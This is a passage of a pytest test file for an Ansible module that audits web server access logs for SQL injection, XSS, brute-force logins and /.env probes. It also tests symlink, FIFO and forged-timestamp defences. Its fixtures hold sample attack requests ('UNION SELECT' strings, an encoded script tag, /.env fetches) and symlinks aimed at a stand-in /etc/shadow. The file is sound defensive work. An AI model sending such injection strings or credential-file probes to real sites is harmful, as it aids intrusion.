    found = {f["category"]: f["clients"] for f in result["findings"]}
    assert found["wp_bruteforce"] == [{"client": "203.0.113.7", "count": 25}]
    assert found["restricted_file"] == [{"client": "2001:db8::7", "count": 1}]
    assert found["sqli"] == found["scanner"] == [{"client": "198.51.100.9", "count": 1}]
    assert (result["first_seen"], result["last_seen"]) == (
        "2026-11-30T11:00:00+07:00", "2026-11-30T11:00:34+07:00")


def test_an_ipv4_mapped_client_is_counted_as_its_ipv4_address(tmp_path):
    """A web server on one dual-stack socket logs an IPv4 visitor as ::ffff:203.0.113.7:
    it was a client of its own beside 203.0.113.7 (its brute force split in two, each
    under the threshold), and behind_proxy showed a proxy as Python writes it,
    ::ffff:a00:5. It is counted and shown as the IPv4 address, forwarded or not."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text("".join(
        [line("::ffff:203.0.113.7" if i % 2 else "203.0.113.7",
              f"30/Nov/2026:10:00:{i:02d}", "POST /wp-login.php HTTP/1.1") for i in range(30)]
        + [forwarded("10.0.0.5", "::FFFF:198.51.100.1", "GET /.env HTTP/1.1"),
           line("2001:db8::7", "30/Nov/2026:10:01:00", "GET / HTTP/1.1")]))
    result = audit(log, state, trusted_proxies=["10.0.0.5"])
    assert result["top_clients"] == [{"client": "203.0.113.7", "count": 30},
                                     {"client": "198.51.100.1", "count": 1},
                                     {"client": "2001:db8::7", "count": 1}]
    brute = next(f for f in result["findings"] if f["category"] == "wp_bruteforce")
    assert brute["clients"] == [{"client": "203.0.113.7", "count": 30}]
    env = next(f for f in result["findings"] if f["category"] == "restricted_file")
    assert env["clients"] == [{"client": "198.51.100.1", "count": 1}]
    proxied = tmp_path / "proxied.log"
    proxied.write_text("".join(line("::ffff:10.0.0.5", f"30/Nov/2026:11:00:{i % 60:02d}",
                                    "GET / HTTP/1.1") for i in range(240)))
    found = audit(proxied, state)["behind_proxy"]
    assert (found["client"], found["count"]) == ("10.0.0.5", 240)


@pytest.mark.parametrize(("proxy", "xff", "trusted", "expected"), [
    ("127.0.0.1", True, [], {"client": "127.0.0.1", "xff": True}),
    ("10.0.0.5", False, [], {"client": "10.0.0.5", "xff": False}),
    ("10.0.0.5", False, ["10.0.0.5"], {"client": "10.0.0.5", "xff": False}),
    ("127.0.0.1", True, ["127.0.0.1"], None),
    ("36.1.1.1", True, [], None),
])
def test_a_proxy_logged_for_every_visitor_is_reported(tmp_path, proxy, xff, trusted, expected):
    """One private or loopback address making nearly every request is a reverse proxy
    without real_ip: reported, with whether the log's X-Forwarded-For field could name
    the clients (trusted_proxies) or the web server must (real_ip, mod_remoteip)."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    visits = [forwarded(proxy, f"203.0.113.{i % 200}", "GET / HTTP/1.1", i) if xff
              else line(proxy, "30/Nov/2026:11:00:00", "GET / HTTP/1.1") for i in range(240)]
    log.write_text("".join(visits) + lines(10, 12, "36.3.3.3"))
    found = audit(log, state, trusted_proxies=trusted)["behind_proxy"]
    assert (found and {"client": found["client"], "xff": found["xff"]}) == expected
    if expected:
        assert (found["count"], found["share"]) == (240, 0.96)


def test_a_court_s_own_quiet_lan_is_no_proxy(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(150, 1, "192.168.1.10"))
    assert audit(log, state)["behind_proxy"] is None


def test_the_proxy_thresholds_are_settings(tmp_path):
    """90 % of at least 200 requests was fixed: a court behind a proxy that also serves
    its LAN directly (80 %), or a small site (150 requests a day), was never told."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text("".join(line("10.0.0.5", "30/Nov/2026:11:00:00", "GET / HTTP/1.1")
                           for _i in range(120)) + lines(30, 12, "36.3.3.3"))
    assert audit(log, state, check=True)["behind_proxy"] is None
    found = audit(log, state, proxy_share_percent=80, proxy_min_requests=150)["behind_proxy"]
    assert (found["client"], found["count"], found["share"]) == ("10.0.0.5", 120, 0.8)
    assert audit(log, state, proxy_share_percent=81, proxy_min_requests=150)["behind_proxy"] is None
    assert audit(log, state, proxy_share_percent=80, proxy_min_requests=151)["behind_proxy"] is None


@pytest.mark.parametrize(("params", "message"), [
    ({"proxy_share_percent": 0},
     "proxy_share_percent: must be a positive number of percent, not 0"),
    ({"proxy_share_percent": 101},
     "proxy_share_percent: must be at most 100 percent, not 101"),
    ({"proxy_min_requests": 0},
     "proxy_min_requests: must be a positive number of requests, not 0"),
    # the bounds the website role's checks refuse them by (sop_options' RANGES)
    ({"proxy_min_requests": 10_000_001},
     "proxy_min_requests: must be at most 10000000 requests (ten million), not 10000001"),
    ({"top": 1001}, "top: must be at most 1000 paths and clients listed, not 1001"),
    ({"bruteforce_threshold": -1},
     "bruteforce_threshold: must be a positive number of failed logins, not -1"),
    ({"bruteforce_threshold": 10001},
     "bruteforce_threshold: must be at most 10000 failed logins, not 10001"),
])
def test_module_bad_threshold_fails_with_one_line(tmp_path, params, message):
    log = tmp_path / "access.log"
    log.write_text(lines(1, 1))
    rc, result = run_module("website_log_audit", tmp_path, {
        "paths": [str(log)], "state_dir": str(tmp_path / "s"), **params})
    assert (rc != 0, result["msg"], result["setting"]) == (True, message, next(iter(params)))
    assert not (tmp_path / "s").exists()


def test_the_role_passes_its_proxy_thresholds_to_the_module():
    """The role's variables reach the module, with the module's own defaults."""
    defaults = yaml.safe_load((ROOT / "roles/website/defaults/main.yml").read_text())
    assert (defaults["website_log_proxy_share_percent"],
            defaults["website_log_proxy_min_requests"]) == (
        weblog.PROXY_SHARE_PERCENT, weblog.PROXY_MIN_REQUESTS) == (90, 200)
    tasks = yaml.safe_load((ROOT / "roles/website/tasks/pengunjung.yml").read_text())
    task = next(t for t in tasks if "website_log_audit" in t)["website_log_audit"]
    assert (task["proxy_share_percent"], task["proxy_min_requests"]) == (
        "{{ website_log_proxy_share_percent }}", "{{ website_log_proxy_min_requests }}")
    spec = yaml.safe_load(mod.DOCUMENTATION)["options"]
    assert (spec["proxy_share_percent"]["default"], spec["proxy_min_requests"]["default"]) == (
        90, 200)


def test_the_role_s_web_server_is_the_module_s(tmp_path):
    """The role was written for nginx: its only log was nginx's and every log was read as
    nginx reads X-Forwarded-For. website_web_server documents the module's web_server
    (choices, default) and the role passes it on."""
    defaults = yaml.safe_load((ROOT / "roles/website/defaults/main.yml").read_text())
    specs = yaml.safe_load((ROOT / "roles/website/meta/argument_specs.yml").read_text())
    spec = specs["argument_specs"]["main"]["options"]["website_web_server"]
    option = yaml.safe_load(mod.DOCUMENTATION)["options"]["web_server"]
    assert defaults["website_web_server"] == spec["default"] == option["default"] == "nginx"
    assert spec["choices"] == option["choices"] == ["nginx", "apache"]
    tasks = yaml.safe_load((ROOT / "roles/website/tasks/pengunjung.yml").read_text())
    task = next(t for t in tasks if "website_log_audit" in t)["website_log_audit"]
    assert task["web_server"] == "{{ website_web_server }}"
    log = tmp_path / "access.log"
    log.write_text(lines(1, 1))
    rc, result = run_module("website_log_audit", tmp_path, {
        "paths": [str(log)], "state_dir": str(tmp_path / "s"), "web_server": "iis"})
    assert (rc != 0, result["msg"]) == (True, "value of web_server must be one of: nginx, "
                                              "apache, got: iis")


def test_an_apache_court_s_log_and_advice_are_apache_s(tmp_path):
    """Run by Ansible with the role's defaults and tasks: with website_web_server apache
    the default log is Debian's /var/log/apache2/access.log (a path the court sets is
    kept), the module takes the server, and the warning about a proxy logged for every
    visitor gives Apache's remedy, not nginx's set_real_ip_from and $http_x_forwarded_for."""
    role = ROOT / "roles/website"
    tasks = yaml.safe_load((role / "tasks/pengunjung.yml").read_text())
    audit_task = next(t for t in tasks if "website_log_audit" in t)
    warn = next(t for t in tasks if t["name"].startswith("Warn about a reverse proxy"))
    log = tmp_path / "access.log"
    log.write_text("".join(apache_line("10.0.0.5", i % 60, "GET / HTTP/1.1") for i in range(240)))
    court = {"website_web_server": "apache", "court_kode_satker": "000000"}
    listed = {**court, "website_log_paths": [str(log)],
              "website_log_state_dir": str(tmp_path / "state")}
    plays = []
    for name, settings, tasks in (("court", court, [{"ansible.builtin.debug": {
            "var": "website_log_paths"}}]), ("listed", listed, [audit_task, warn])):
        (tmp_path / f"{name}.yml").write_text(yaml.safe_dump(settings))
        # after the defaults, as a court's inventory sets them
        files = [str(role / "defaults/main.yml"), str(tmp_path / f"{name}.yml"),
                 str(role / "vars/main.yml")]
        plays.append({"hosts": "localhost", "gather_facts": False, "vars_files": files,
                      "tasks": tasks})
    (tmp_path / "play.yml").write_text(yaml.safe_dump(plays))
    env = dict(os.environ, ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"),
               ANSIBLE_STDOUT_CALLBACK="ansible.posix.json")
    proc = subprocess.run([*LOCAL_PLAYBOOK, str(tmp_path / "play.yml")], capture_output=True,
                          text=True, check=False, env=env, timeout=120, cwd=ROOT)
    results = [[task["hosts"]["localhost"] for task in p["tasks"]]
               for p in json.loads(proc.stdout)["plays"]]
    assert results[0][0]["website_log_paths"] == ["/var/log/apache2/access.log"]
    assert results[1][0]["audit"]["top_clients"] == [{"client": "10.0.0.5", "count": 240}]
    message = results[1][1]["msg"]
    assert "mod_remoteip di Apache (RemoteIPHeader X-Forwarded-For" in message
    assert '"%{X-Forwarded-For}i"' in message
    assert "set_real_ip_from" not in message and "$http_x_forwarded_for" not in message


def test_module_bad_trusted_proxy_fails_with_one_line(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(lines(1, 1))
    rc, result = run_module("website_log_audit", tmp_path, {
        "paths": [str(log)], "state_dir": str(tmp_path / "s"),
        "trusted_proxies": ["10.0.0.0/8", "proxy.lan"]})
    assert rc != 0
    assert result["msg"] == "trusted_proxies: 'proxy.lan' is no IP address or network"


def test_module_log_that_is_not_a_file_fails_with_one_line(tmp_path):
    log = tmp_path / "access.log"
    os.mkfifo(log)  # as a FIFO, or a link to /dev/stdout: reading it would never end
    with within(30, "the audit of a FIFO"):
        rc, result = run_module("website_log_audit", tmp_path,
                                {"paths": [str(log)], "state_dir": str(tmp_path / "state")})
    assert rc != 0
    assert result["msg"] == (f"access log {log}: not a regular file (a FIFO, a device or a "
                             "socket): not read; move it away")


@pytest.mark.parametrize("kind", ["", ".gz"])
def test_a_rotated_copy_that_is_a_fifo_is_named_not_waited_for(tmp_path, kind):
    """A FIFO named as a rotated copy (access.log.1) made the audit wait forever for a
    writer. It is not read now: the audit fails with one line naming it."""
    log = tmp_path / "access.log"
    log.write_text(lines(3, 1))
    copy = tmp_path / ("access.log.2.gz" if kind else "access.log.1")
    os.mkfifo(copy)
    with within(20, "auditing beside a FIFO"):
        rc, result = run_module("website_log_audit", tmp_path,
                                {"paths": [str(log)], "state_dir": str(tmp_path / "state")})
    assert rc != 0 and result["msg"] == (f"access log {copy}: not a regular file (a FIFO, "
                                         "a device or a socket): not read; move it away")


def secret_file(tmp_path: Path) -> Path:
    """A root-only file (/etc/shadow) whose lines would count as requests if read."""
    secret = tmp_path / "shadow"
    secret.write_text(lines(4, 2, ip="10.66.66.66"))
    return secret


# The web server's account (www-data on Debian)
WEB_UID = 33
as_root = pytest.mark.skipif(os.geteuid() != 0, reason=(
    "a folder only root can change, beside one of another account, needs the tests run as "
    "root (the CI runs them so)"))


def name_of(number: int, *, group: bool = False) -> str:
    """An account's (a group's) name, its number when it has none, as the refusal says."""
    try:
        return grp.getgrgid(number).gr_name if group else pwd.getpwuid(number).pw_name
    except KeyError:
        return str(number)


def web_folder(folder: Path) -> str:
    """``folder`` made (with its parents) and given to the web server's account, as a
    site's own logs folder is, when the tests run as root; as another account it is that
    account's already. Its owner's name, as a refusal names it."""
    folder.mkdir(parents=True, exist_ok=True)
    if os.geteuid() == 0:
        os.chown(folder, WEB_UID, -1)
    return name_of(folder.stat().st_uid)


def root_folder(folder: Path) -> Path:
    """``folder`` made (with its parents), owned by root and writable by root alone (the
    umask may leave it group-writable)."""
    folder.mkdir(parents=True, exist_ok=True)
    os.chmod(folder, 0o755)
    assert folder.stat().st_uid == 0
    return folder


def refusal(log: Path, link: str, target: Path, writer: str) -> str:
    """The warning for a link in a folder ``writer`` (Bahasa: who) can write."""
    folder = os.path.dirname(log if link == "log itu sendiri" else link)
    return (f"log {log} tidak dibaca: {link} adalah tautan simbolik ke {target}, tidak "
            f"diikuti: folder yang memuatnya, {folder}, dapat ditulis oleh {writer}, bukan "
            "hanya root (akun itu dapat mengarahkan tautan ke berkas lain, mis. /etc/shadow); "
            "berikan path log yang sebenarnya atau pindahkan tautan itu ke folder milik root "
            "yang tidak dapat ditulis grup maupun akun lain. Posisi pembacaannya tetap; log "
            "lain tetap diaudit.")


def audited(tmp_path: Path, *logs: Path) -> tuple[int, dict]:
    return run_module("website_log_audit", tmp_path,
                      {"paths": [str(log) for log in logs], "state_dir": str(tmp_path / "state")})


@pytest.mark.parametrize("kind", ["", ".gz"])
def test_a_rotated_copy_that_is_a_link_is_not_followed_and_its_log_not_read(tmp_path, kind):
    """A link named as a rotated copy (to /etc/shadow, to /proc/kmsg) was read as a log.
    Now its log is not read, named with the link and the account that can write its
    folder in a warning, and its position kept."""
    logs = tmp_path / "www" / "logs"
    owner = web_folder(logs)
    log = logs / "access.log"
    log.write_text(lines(3, 1))
    copy = logs / ("access.log.2.gz" if kind else "access.log.1")
    secret = secret_file(tmp_path)
    copy.symlink_to(secret)
    rc, result = audited(tmp_path, log)
    assert rc == 0 and result["audit"]["requests"] == 0
    assert result["audit"]["refused"] == [{"path": str(log), "link": str(copy),
                                           "target": str(secret), "writable_by": "owner",
                                           "account": owner}]
    assert warning_lines(result) == [refusal(log, str(copy), secret,
                                             f"pemiliknya, akun {owner}")]
    assert not (tmp_path / "state").exists() or not os.listdir(tmp_path / "state")


def test_a_live_log_swapped_for_a_link_is_not_followed(tmp_path):
    """The web server's account replaces its log by a link to a file it cannot read."""
    logs = tmp_path / "www" / "logs"
    owner = web_folder(logs)
    log, secret = logs / "access.log", secret_file(tmp_path)
    log.symlink_to(secret)
    rc, result = audited(tmp_path, log)
    assert rc == 0 and result["audit"]["requests"] == 0
    assert result["audit"]["refused"] == [{"path": str(log), "link": str(log),
                                           "target": str(secret), "writable_by": "owner",
                                           "account": owner}]
    assert warning_lines(result) == [refusal(log, "log itu sendiri", secret,
                                             f"pemiliknya, akun {owner}")]


@pytest.mark.parametrize("depth", [1, 2])
def test_a_folder_of_a_log_s_path_swapped_for_a_link_is_not_followed(tmp_path, depth):
    """The web server's account owns the log's folder (/var/log/nginx, a site's own logs
    folder), or one above it, and swaps it for a link to a root-only folder holding a
    file of the log's name: root read that file as the log, its lines in the evidence.
    Now that log is not read, a warning names it and the link, and the other logs (a
    normal path beside it) are still audited."""
    private = tmp_path / "root" / "site"
    private.mkdir(parents=True)
    shutil.copy(secret_file(tmp_path), private / "access.log")
    log = tmp_path / "www" / "logs" / "site" / "access.log"
    swapped = log.parent if depth == 1 else log.parent.parent
    owner = web_folder(swapped.parent)
    target = private if depth == 1 else private.parent
    swapped.symlink_to(target)
    assert log.read_text() == (private / "access.log").read_text()  # the path leads there
    other = tmp_path / "nginx" / "access.log"
    other.parent.mkdir()
    other.write_text(lines(3, 1))
    rc, result = audited(tmp_path, log, other)
    assert rc == 0
    audit = result["audit"]
    assert (audit["requests"], audit["top_clients"]) == (3, [{"client": "36.2.2.2",
                                                               "count": 3}])
    assert audit["refused"] == [{"path": str(log), "link": str(swapped),
                                 "target": str(target), "writable_by": "owner",
                                 "account": owner}]
    assert warning_lines(result) == [refusal(log, str(swapped), target,
                                             f"pemiliknya, akun {owner}")]
    assert list(audit["resumed"]) == [str(other)]
    # the refused log kept no position: once its folder is a folder again, it is read
    swapped.unlink()
    log.parent.mkdir(parents=True)
    log.write_text(lines(2, 3))
    rc, result = audited(tmp_path, log, other)
    assert rc == 0 and result["audit"]["refused"] == [] and not warning_lines(result)
    assert result["audit"]["resumed"] == {str(log): "first-run", str(other): "live"}
    assert result["audit"]["requests"] == 2


@as_root
@pytest.mark.parametrize("mode", [0o775, 0o1777])
def test_a_link_in_a_root_folder_others_can_write_is_not_followed(tmp_path, mode):
    """A folder root owns but its group may write (an admin's group, the web server's),
    or everyone may, even sticky as /tmp (anyone makes a new link there): a link in it is
    not followed, the warning naming who can write it."""
    private = root_folder(tmp_path / "root")
    shutil.copy(secret_file(tmp_path), private / "access.log")
    shared = root_folder(tmp_path / "shared")
    os.chmod(shared, mode)
    (shared / "nginx").symlink_to(private)
    log = shared / "nginx" / "access.log"
    rc, result = audited(tmp_path, log)
    assert rc == 0 and result["audit"]["requests"] == 0
    group = name_of(shared.stat().st_gid, group=True)
    writer, account, bahasa = (("group", group, f"grupnya, {group}") if mode == 0o775 else
                               ("others", None, "semua akun"))
    assert result["audit"]["refused"] == [{"path": str(log), "link": str(shared / "nginx"),
                                           "target": str(private), "writable_by": writer,
                                           "account": account}]
    assert warning_lines(result) == [refusal(log, str(shared / "nginx"), private, bahasa)]


@as_root
@pytest.mark.parametrize("kind", ["absolute", "relative", "log itself", "chain"])
def test_a_link_root_made_in_a_folder_only_root_can_write_is_followed(tmp_path, kind):
    """An administrator's link (/var/log/nginx -> /data/logs, /srv/www -> /data/www, the
    log itself a link to where the disk has room), in folders only root can change: the
    account that writes the logs cannot have made it, so it is followed, its target,
    absolute or relative to the link's folder, walked by the same rule."""
    data = root_folder(tmp_path / "data" / "www" / "site" / "logs")
    (data / "access.log").write_text(lines(3, 1))
    srv = root_folder(tmp_path / "srv")
    if kind == "absolute":
        (srv / "www").symlink_to(tmp_path / "data" / "www")
    elif kind == "relative":
        (srv / "www").symlink_to("../data/www")
    elif kind == "chain":  # a link to a folder holding a link, relative the one, both
        root_folder(tmp_path / "mnt")
        (tmp_path / "mnt" / "www").symlink_to(tmp_path / "data" / "www")
        (srv / "www").symlink_to("../mnt/./www")
    else:
        root_folder(srv / "www" / "site" / "logs")
        (srv / "www" / "site" / "logs" / "access.log").symlink_to(
            "../../../../data/www/site/logs/access.log")
    log = srv / "www" / "site" / "logs" / "access.log"
    rc, result = audited(tmp_path, log)
    assert rc == 0, result
    assert result["audit"]["refused"] == [] and not warning_lines(result)
    assert result["audit"]["requests"] == 3
    assert result["audit"]["resumed"] == {str(log): "first-run"}


@as_root
def test_a_loop_of_root_made_links_is_refused_not_followed_for_ever(tmp_path):
    """Two links an administrator made pointing to each other: the walk gives up past 40
    links (Linux's MAXSYMLINKS), the log not read, the warning saying why."""
    loop = root_folder(tmp_path / "loop")
    (loop / "a").symlink_to("b")
    (loop / "b").symlink_to("a")
    log = loop / "a" / "access.log"
    rc, result = audited(tmp_path, log)
    assert rc == 0 and result["audit"]["requests"] == 0
    [refused] = result["audit"]["refused"]
    assert refused["path"] == str(log) and refused["link"] in (str(loop / "a"),
                                                                 str(loop / "b"))
    assert (refused["writable_by"], refused["account"]) == (None, None)
    target = Path(refused["target"])
    assert warning_lines(result) == [
        f"log {log} tidak dibaca: {refused['link']} adalah tautan simbolik ke {target}, "
        "tidak diikuti: lebih dari 40 tautan simbolik di jalannya (tautan yang berputar); "
        "berikan path log yang sebenarnya. Posisi pembacaannya tetap; log lain tetap "
        "diaudit."]


def test_a_log_s_folder_swapped_for_a_link_after_planning_is_not_read(tmp_path):
    """Between finding where to read and reading, the log's folder becomes a link to a
    folder whose file of the log's name is another: refused naming the link, not read."""
    www = tmp_path / "www"
    owner = web_folder(www)
    folder = www / "logs"
    folder.mkdir()
    log = folder / "access.log"
    log.write_text(lines(3, 1))
    found = weblog.plan(str(log), None)
    folder.rename(www / "moved")
    (tmp_path / "etc").mkdir()
    shutil.copy(secret_file(tmp_path), tmp_path / "etc" / "access.log")
    folder.symlink_to(tmp_path / "etc")
    with pytest.raises(weblog.LinkRefused) as caught:
        weblog.audit(found.tasks, workers=1)
    assert str(caught.value) == (f"{log}: {folder} is a symbolic link: not followed (its "
                                 f"folder {www} is writable by owner {owner}, not root "
                                 "alone; give the log's own path, or move the link away)")


@pytest.mark.parametrize("writer", ["owner", None])
def test_a_link_refused_in_a_worker_reaches_the_audit_whole(writer):
    """audit's workers return their failures pickled: a refusal keeps its fields."""
    refused = weblog.LinkRefused("/var/log/nginx/access.log", "/var/log/nginx", "/etc",
                                 writer, "www-data" if writer else None)
    again = pickle.loads(pickle.dumps(refused))
    fields = ("path", "link", "target", "writer", "account")
    assert [getattr(again, f) for f in fields] == [getattr(refused, f) for f in fields]
    assert str(again) == str(refused)
    assert str(again).endswith("(more than 40 symbolic links on the way: a loop)"
                               if writer is None else "writable by owner www-data, not root "
                               "alone; give the log's own path, or move the link away)")


def test_a_normal_log_path_is_opened_and_a_folder_that_is_a_file_named(tmp_path):
    log = tmp_path / "var" / "log" / "nginx" / "access.log"
    log.parent.mkdir(parents=True)
    log.write_text(lines(1, 1))
    with weblog.open_log(str(log)) as handle:
        assert handle.read() == lines(1, 1).encode()
    (tmp_path / "file").write_text("")
    with pytest.raises(weblog.LogError) as caught:
        weblog.open_log(str(tmp_path / "file" / "access.log"))
    assert str(caught.value) == (f"{tmp_path / 'file' / 'access.log'}: {tmp_path / 'file'} "
                                 "is not a folder")


def test_a_log_swapped_for_a_fifo_after_planning_is_not_waited_for(tmp_path):
    """Between finding where to read and reading, the log becomes a FIFO."""
    log = tmp_path / "access.log"
    log.write_text(lines(3, 1))
    found = weblog.plan(str(log), None)
    log.unlink()
    os.mkfifo(log)
    with within(20, "reading the swapped log"), pytest.raises(weblog.LogError,
                                                                match="not a regular file"):
        weblog.audit(found.tasks, workers=1)


def test_module_corrupt_state_fails_with_one_line(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(LOG)
    state = tmp_path / "state"
    state.mkdir()
    (Path(weblog.state_path(str(state), str(log)))).write_text("{not json")
    rc, result = run_module("website_log_audit", tmp_path,
                            {"paths": [str(log)], "state_dir": str(state)})
    assert rc != 0 and "unreadable" in result["msg"] and "\n" not in result["msg"]


def test_a_state_that_cannot_be_kept_is_one_line_naming_it(tmp_path, monkeypatch):
    state_file = str(tmp_path / "state" / "access.log-x.json")

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(weblog.LogError) as caught:
        weblog.write_state(state_file, {"version": weblog.STATE_VERSION})
    assert str(caught.value) == f"state file {state_file}: No space left on device"
    assert os.listdir(tmp_path / "state") == []


def test_module_runs_and_never_reports_a_change(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(LOG)
    rc, result = run_module("website_log_audit", tmp_path,
                            {"paths": [str(log)], "state_dir": str(tmp_path / "s")})
    assert rc == 0 and result["changed"] is False
    assert result["sop_output"]["requests"] == result["audit"]["requests"]


def ahead(days: float) -> str:
    """A log time ``days`` after now, in the log's format (+0700)."""
    moment = datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))) \
        + datetime.timedelta(days=days)
    return moment.strftime("%d/%b/%Y:%H:%M:%S")


@pytest.mark.parametrize("forged", ["99/Dec/9999:23:59:59", "31/Feb/2026:10:00:00",
                                    "30/Nov/2026:25:61:00", "30/Nov/2026:9:00:000",
                                    "30/Nov/+026:09:00:00", "FUTURE"])
def test_a_forged_date_is_counted_but_never_first_or_last_seen(tmp_path, forged):
    """Any date text was taken (99/Dec/9999, 31/Feb) and the largest won: one forged line
    made an attack look as if it went on until 9999 (or a date days ahead of the audit's
    own clock). The line is counted and its finding kept, but its time does not become
    first or last seen, of the finding, the brute force or the log."""
    when = ahead(2) if forged == "FUTURE" else forged
    log = tmp_path / "access.log"
    log.write_text("".join(NORMAL + [p for _c, p in PROBES] + BRUTE) + "".join([
        line("45.1.1.1", when, "GET /?id=1+UNION+SELECT+1-- HTTP/1.1"),
        line("103.9.9.9", when, "POST /wp-login.php HTTP/1.1"),
        line("45.1.1.12", when, "GET /.env HTTP/1.1", 404)]))
    result = audit(log, tmp_path / "state")
    assert result["requests"] == len(NORMAL) + len(PROBES) + len(BRUTE) + 3
    found = {f["category"]: f for f in result["findings"]}
    assert found["sqli"]["count"] == 3
    assert (found["sqli"]["first_seen"], found["sqli"]["last_seen"]) == (
        "2026-11-30T09:00:00+07:00", "2026-11-30T09:00:09+07:00")
    assert found["wp_bruteforce"]["count"] == 26
    assert found["wp_bruteforce"]["last_seen"] == "2026-11-30T10:00:24+07:00"
    assert (result["first_seen"], result["last_seen"]) == (
        "2026-11-30T08:00:00+07:00", "2026-11-30T10:00:24+07:00")
    forged = found["forged_time"]  # each line set aside, once, as a finding of its own
    assert (forged["count"], forged["first_seen"], forged["last_seen"]) == (3, None, None)
    # a finding whose every line is forged is kept, without a time
    only = tmp_path / "only.log"
    only.write_text(line("45.1.1.1", when, "GET /.env HTTP/1.1", 404))
    found = {f["category"]: f for f in audit(only, tmp_path / "state2")["findings"]}
    assert found["restricted_file"]["count"] == 1
    assert (found["restricted_file"]["first_seen"], found["restricted_file"]["last_seen"]) \
        == (None, None)


def test_a_date_a_few_hours_ahead_still_counts_as_seen(tmp_path):
    """A host whose clock is a little behind its web server's (or in another zone) is no
    forgery: up to a day ahead of the audit's clock is still a time seen."""
    when = ahead(0.5)
    log = tmp_path / "access.log"
    log.write_text(line("45.1.1.1", when, "GET /.env HTTP/1.1", 404))
    found = {f["category"]: f for f in audit(log, tmp_path / "state")["findings"]}
    assert found["restricted_file"]["last_seen"] == weblog.seen_time(f"{when} +0700".encode())[1]
    assert found["restricted_file"]["last_seen"] != ""


def zoned(ip: str, when: str, request: str) -> str:
    """A log line at ``when`` (with its zone offset)."""
    return f'{ip} - - [{when}] "{request}" 200 512 "-" "{BROWSER}"\n'


BEFORE_CHANGE = "".join([  # the server in +0700
    zoned("45.1.1.1", "30/Nov/2026:09:00:00 +0700", "GET /?id=1+UNION+SELECT+1-- HTTP/1.1"),
    *(zoned("103.9.9.9", f"30/Nov/2026:10:00:{i:02d} +0700", "POST /wp-login.php HTTP/1.1")
      for i in range(20)),
])
AFTER_CHANGE = "".join([  # then in +0000: 02:30 +0000 is 09:30 +0700, after the first
    zoned("45.1.1.1", "30/Nov/2026:02:30:00 +0000", "GET /?id=2+UNION+SELECT+1-- HTTP/1.1"),
    *(zoned("103.9.9.9", f"30/Nov/2026:03:05:{i:02d} +0000", "POST /wp-login.php HTTP/1.1")
      for i in range(3)),
    *(zoned("103.9.9.8", f"30/Nov/2026:03:30:{i:02d} +0000", "POST /xmlrpc.php HTTP/1.1")
      for i in range(20)),
])


@pytest.mark.parametrize("rotated", [False, True])
def test_times_in_several_zone_offsets_are_ordered_as_instants(tmp_path, rotated):
    """A log whose zone offset changed (the server's time zone set from +0700 to UTC, or a
    proxy writing UTC): first and last seen were compared as text, so 02:30 +0000 came
    before 09:00 +0700 although it is half an hour after it, and an attack's first and
    last seen were swapped. Within one file and across files (their tallies merged)."""
    log = tmp_path / "access.log"
    if rotated:
        (tmp_path / "access.log.1").write_text(BEFORE_CHANGE)
        log.write_text(AFTER_CHANGE)
    else:
        log.write_text(BEFORE_CHANGE + AFTER_CHANGE)
    result = audit(log, tmp_path / "state")
    found = {f["category"]: f for f in result["findings"]}
    assert (found["sqli"]["first_seen"], found["sqli"]["last_seen"]) == (
        "2026-11-30T09:00:00+07:00", "2026-11-30T02:30:00+00:00")
    assert found["wp_bruteforce"]["count"] == 43
    assert (found["wp_bruteforce"]["first_seen"], found["wp_bruteforce"]["last_seen"]) == (
        "2026-11-30T10:00:00+07:00", "2026-11-30T03:30:19+00:00")
    assert (result["first_seen"], result["last_seen"]) == (
        "2026-11-30T09:00:00+07:00", "2026-11-30T03:30:19+00:00")


EPOCH = "01/Jan/1970:00:00:00 +0000"


def test_a_date_far_in_the_past_is_never_first_seen_and_is_a_finding(tmp_path):
    """A line dated 1970 (written by the web account, which owns its log, or a server
    clock reset to its start) became the first seen of the log and of its attack. A time
    before 2000 is set aside as a time after the audit's clock plus a day is: the line is
    counted, its time is never seen, and a line of a finding or a login whose time was set
    aside is itself a finding (forged_time), once per line, with its sample."""
    log = tmp_path / "access.log"
    log.write_text("".join([
        zoned("36.1.1.9", EPOCH, "GET / HTTP/1.1"),
        *NORMAL, *(p for _c, p in PROBES), *BRUTE,
        zoned("45.1.1.1", EPOCH, "GET /?id=1+UNION+SELECT+1--+%3Cscript%3E HTTP/1.1"),
        zoned("103.9.9.9", EPOCH, "POST /wp-login.php HTTP/1.1"),
        zoned("45.1.1.12", "99/Dec/9999:23:59:59 +0000", "GET /.env HTTP/1.1"),
    ]))
    result = audit(log, tmp_path / "state")
    assert result["requests"] == 1 + len(NORMAL) + len(PROBES) + len(BRUTE) + 3
    assert (result["first_seen"], result["last_seen"]) == (
        "2026-11-30T08:00:00+07:00", "2026-11-30T10:00:24+07:00")
    found = {f["category"]: f for f in result["findings"]}
    assert (found["sqli"]["count"], found["sqli"]["first_seen"]) == (3, "2026-11-30T09:00:00+07:00")
    assert (found["xss"]["count"], found["xss"]["first_seen"]) == (2, "2026-11-30T09:04:00+07:00")
    assert (found["wp_bruteforce"]["count"], found["wp_bruteforce"]["first_seen"]) == (
        26, "2026-11-30T10:00:00+07:00")
    forged = found["forged_time"]
    assert forged["count"] == 3  # the sqli + xss line once, the login, the 9999 one
    assert (forged["first_seen"], forged["last_seen"]) == (None, None)
    assert EPOCH in forged["samples"][0] and "UNION" in forged["samples"][0]
    assert {c["client"] for c in forged["clients"]} == {"45.1.1.1", "103.9.9.9", "45.1.1.12"}
    assert ("waktu permintaan tidak wajar, dipalsukan atau jam server salah (forged_time): "
            "3 permintaan") in " ".join(mod.sop_output(result)["findings"])


def test_new_lines_dated_before_the_previous_run_are_set_aside(tmp_path):
    """The lines after the previous run's position were written after that run began: a
    time more than a day before it (a line the web account wrote with an older date) is
    set aside as forged; one a few hours before it (a long request) is still seen."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(line("36.2.2.2", ahead(0), "GET / HTTP/1.1"))
